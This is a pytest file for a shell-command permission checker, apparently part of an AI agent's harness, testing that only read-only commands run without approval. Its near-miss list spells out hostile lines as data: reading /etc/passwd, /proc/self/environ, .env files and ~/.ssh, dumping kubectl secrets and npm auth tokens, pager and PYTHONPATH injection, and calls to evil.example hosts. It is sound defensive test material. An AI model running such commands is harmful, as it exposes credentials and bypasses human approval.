"""The everyday list: reading runs unasked, everything else is asked about, and so is what only looks like reading."""

import os
from pathlib import Path

import pytest

from tests.shell.everyday import LIST, READING, SECOND_LIST, EverydayLine, everyday_lines, judge, make_project, share

pytestmark = [pytest.mark.anyio, pytest.mark.needs("git")]

READING_FLOOR = 0.97
NEAR_MISSES = """
x=-e; grep -r -e API_KEY . $x
grep -r API_KEY "$PWD"
git -C src/link/.. status
cd src/link && git -C .. status
cd nested/back/.. && git status
CDPATH=nested cd inner && git status
grep -R API_KEY .
grep -r API_KEY . {-n,--}
x=--; grep -r API_KEY . $x
for o in -n --; do grep -r API_KEY $o .; done
POSIXLY_CORRECT=1 grep -r API_KEY .
unset -f grep; grep -r API_KEY .
exec grep -r API_KEY .
mv .env b.txt; grep -r API_KEY .
wc --files0-from=.env
tree --fromfile .env
rg --files --hidden | xargs cat
ls /etc/passwd | xargs cat
cd /etc && cat passwd
env -C /etc cat passwd
LESSOPEN='|touch x' less a.txt
LESSSECURE=0 less a.txt
LESS=-ox less a.txt
less a.txt; touch x
PYTHONPATH=src python3 -m json.tool package.json
PYTHONSAFEPATH= python3 -m json.tool package.json
python3 -m json.tool package.json; touch x
python -m json.tool package.json
openssl x509 -in file:a.txt -noout
OPENSSL_CONF=a.txt openssl x509 -in a.txt -noout
npm config get registry
go version
terraform version
cp a.txt /dev/null
less '+!touch x' a.txt
less -o log a.txt
less *.md
more +/x a.txt
tee /dev/null out.txt
tee /dev/null/../x
python3 -m json.tool package.json out.json
python3 -m json.tool .env
python3 -c 'print(open(".env").read())'
python3 -c 'print(open("/etc/passwd").read())'
python3 -c 'print(1)'; touch x
PYTHONPATH=src python3 -c 'import json; print(1)'
find . -name '*env' -exec cat {} +
find . -name '*.py' -o -type f -exec cat {} +
npm pkg set a=b
python3 -m http.server
python3 -m pip install x
python3 -m pip download x
npm ls --prefix ../evil
npm ls --depth --prefix=../evil
npm config get //registry.example/:_authToken
npm config get
npm run build
npm --prefix ../evil ls
npm_config_logs_max=5 npm ls
npm ls; touch x
go env
go env -w GOFLAGS=-x
GOTOOLCHAIN=auto go version
cargo +nightly --version
terraform version -chdir=x
terraform plan
openssl x509 -in a.txt -out b.txt
openssl x509 -in .env -noout -text
cat /proc/self/environ
cat /proc/1/cmdline
cat /etc/passwd
cat /etc/../etc/passwd
head -5 /proc/cpuinfo /proc/self/environ
find /etc -type f | xargs cat
find /usr -exec cat {} +
ls -R / | xargs cat
ls /proc/1
cat /usr/lib/os-release/../../share/x
cd .. && git status
cd /tmp && git status
git -C .. status
cd nested && git status
git -C nested log
grep -r API_KEY . --
grep -r API_KEY -- .
command grep -r API_KEY .
env grep -r API_KEY .
timeout 5 grep -r API_KEY .
sh -c 'grep -r API_KEY .'
egrep -r API_KEY .
find . -exec grep API_KEY {} +
grep API_KEY .env
grep -r API_KEY . ; cat .env
grep -r x certs/server.key
rg API_KEY .env
cat $(ls -a)
kubectl get secrets
kubectl get pods --context production
kubectl --kubeconfig ./k get pods
kubectl get pods --server=https://evil.example
helm list --kube-context production
gh pr view https://evil.example/a/b/pull/1
gh api /user
ls -R ~
ls -laR /
ls ~/.ssh
ls ~/.config/gh
ls /dev
ls ~ | xargs cat
find ~ -name x
tree ~
cd ~ && ls
docker compose -f other.yml ps
docker compose --project-directory /etc ps
docker compose --env-file x ps
touch a; docker compose ps
cd src && docker compose ps
docker compose config
docker compose exec web ls
docker -H tcp://x ps
npm ls ../x
npm run build
""".strip().splitlines()


@pytest.fixture
def project(tmp_path: Path) -> tuple[Path, dict[str, str]]:
    return make_project(Path(os.path.realpath(tmp_path)))


@pytest.mark.parametrize("file", [LIST, SECOND_LIST], ids=lambda file: str(file.stem))
async def test_reading_lines_run_unasked_and_all_others_are_asked_about(
    project: tuple[Path, dict[str, str]], file: Path
) -> None:
    judged = await judge(*project, everyday_lines(file))

    assert share([each for each in judged if each.line.kind == READING]) >= READING_FLOOR
    assert [each.line.command for each in judged if each.line.kind != READING and each.unasked] == []


async def test_what_is_nearly_an_everyday_line_is_asked_about(project: tuple[Path, dict[str, str]]) -> None:
    folder, env = project
    make_project(folder / "other")
    (folder / "other/project").rename(folder / "nested")
    (folder / "nested/inner").mkdir()
    for link, target in (("link", "nested/inner"), ("src/link", "../nested/inner"), ("nested/back", "../src")):
        (folder / link).symlink_to(target)
    judged = await judge(folder, env, [EverydayLine("near miss", "", line) for line in NEAR_MISSES])

    assert [each.line.command for each in judged if each.unasked] == []


@pytest.mark.parametrize(
    ("line", "name"),
    [
        ("python3 -m json.tool a.txt", "argparse.py"),
        ("python3 -m json.tool a.txt", "json/__init__.py"),
        ("python3 -c 'import json; print(1)'", "json.py"),
        ("cd src && python3 -m json.tool x.json", "src/_json.cpython-38-x86_64-linux-gnu.so"),
    ],
)
async def test_a_module_of_the_project_keeps_python_from_running_unasked(
    project: tuple[Path, dict[str, str]], line: str, name: str
) -> None:
    folder, env = project
    lines = [EverydayLine("", "", line)]
    (before,) = await judge(folder, env, lines)
    (folder / name).parent.mkdir(exist_ok=True)
    (folder / name).write_text("")
    (after,) = await judge(folder, env, lines)

    assert (before.unasked, after.unasked) == (True, False)


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("docker-compose.yml", b"include:\n  - oci://registry.example/x\n"),
        ("docker-compose.yml", b'"incl\\u0075de": [x]\n'),
        ("docker-compose.yml", b"!!binary aW5jbHVkZQ== : [x]\n"),
        ("docker-compose.yml", "include: [x]\n".encode("utf-16")),
        ("compose.yaml", b"services: {a: {extends: {file: /x, service: b}}}\n"),
        ("docker-compose.override.yml", b"include: [x]\n"),
        (".env", b"COMPOSE_FILE=oci://registry.example/x\n"),
    ],
)
async def test_a_compose_file_that_brings_in_others_is_asked_about(
    project: tuple[Path, dict[str, str]], name: str, text: bytes
) -> None:
    folder, env = project
    lines = [EverydayLine("", "", "docker compose ps")]
    (before,) = await judge(folder, env, lines)
    (folder / name).write_bytes(text)
    (after,) = await judge(folder, env, lines)

    assert (before.unasked, after.unasked) == (True, False)
